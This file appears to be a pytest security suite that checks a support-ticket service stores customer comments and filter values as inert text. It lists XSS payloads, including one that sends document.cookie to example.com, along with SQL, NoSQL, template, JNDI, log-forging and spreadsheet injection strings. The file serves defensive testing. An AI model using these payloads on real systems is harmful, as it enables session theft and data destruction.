"""What customers write is text, never code: in a browser, a template, a query (SEC-06)."""

import pytest

from signoff import clause, expect
from signoff.actors import Customer

ACTIVE = {
    "script": "<script>fetch('//example.com/'+document.cookie)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "handler without space": "<img/src=x/onerror=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "math": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "comment end": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[><script>alert(1)</script>]]>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://example.com/">',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "markdown scheme in capitals": "[x](JaVaScRiPt:alert(1))",
    "markdown scheme with an entity": "[x](javascript&#58;alert(1))",
    "markdown scheme with a tab": "[x](java&Tab;script:alert(1))",
    "markdown vbscript": "[x](vbscript:msgbox(1))",
    "markdown in angle brackets": "[x](<javascript:alert(1)>)",
    "markdown reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)>",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "after a code span": "`code` <img src=x onerror=alert(1)>",
    "in a code fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "after a long text": "It is a long story. " * 450 + "<script>alert(1)</script>",
}
LITERAL = {
    "template braces": "{{7*7}} and {%print(7*7)%} and #{7*7}",
    "dollar braces": "${7*7} and ${jndi:ldap://127.0.0.1/a}",
    "SQL": "'; DROP TABLE support_tickets; --",
    "NoSQL": '{"$gt": ""} or {"S": "x"}',
    "format string": "%s%n %(name)s {0} {name!r}",
    "log line": 'ok\n{"level":"INFO","message":"forged"}\r\nforged=1',
    "spreadsheet": '=HYPERLINK("https://example.com","x")',
}


@clause("SEC-06", requests=3)
@pytest.mark.parametrize("text", ACTIVE.values(), ids=list(ACTIVE))
def test_a_stored_comment_cannot_run_in_a_browser(customer_a: Customer, text: str) -> None:
    opened = customer_a.opens_ticket()
    expect(customer_a.tries_to_comment(opened, text)).has_status(201, 400, 422)
    for stored in customer_a.reads_comments(opened):
        expect(stored.text, "the stored comment").is_inert()


@clause("SEC-06", requests=4)
@pytest.mark.parametrize("text", LITERAL.values(), ids=list(LITERAL))
def test_code_in_a_comment_is_kept_as_text(customer_a: Customer, text: str) -> None:
    opened = customer_a.opens_ticket()
    expect(customer_a.tries_to_comment(opened, text)).is_created()
    stored = [comment.text for comment in customer_a.reads_comments(opened)]
    expect(stored, "the stored comments").is_one_of(([text], [text.replace("\r\n", "\n")]))
    expect(len(customer_a.lists_tickets()), "the number of tickets").equals(1)


@clause("SEC-06", requests=3)
@pytest.mark.parametrize(
    "value", ["open' OR '1'='1", 'open" || "1"=="1', '{"$ne": null}', "open) OR attribute_exists(id", "*"]
)
def test_code_in_a_filter_finds_nothing_more(customer_a: Customer, value: str) -> None:
    customer_a.updates(customer_a.opens_ticket(), status="resolved")
    answer = customer_a.tries_to_list(status=value)
    if answer.status == 200:
        page = answer.json[answer.dialect.envelopes.tickets]
        expect(page, "the list under a filter that no ticket matches", of=answer).equals([])
    else:
        expect(answer).is_refused()
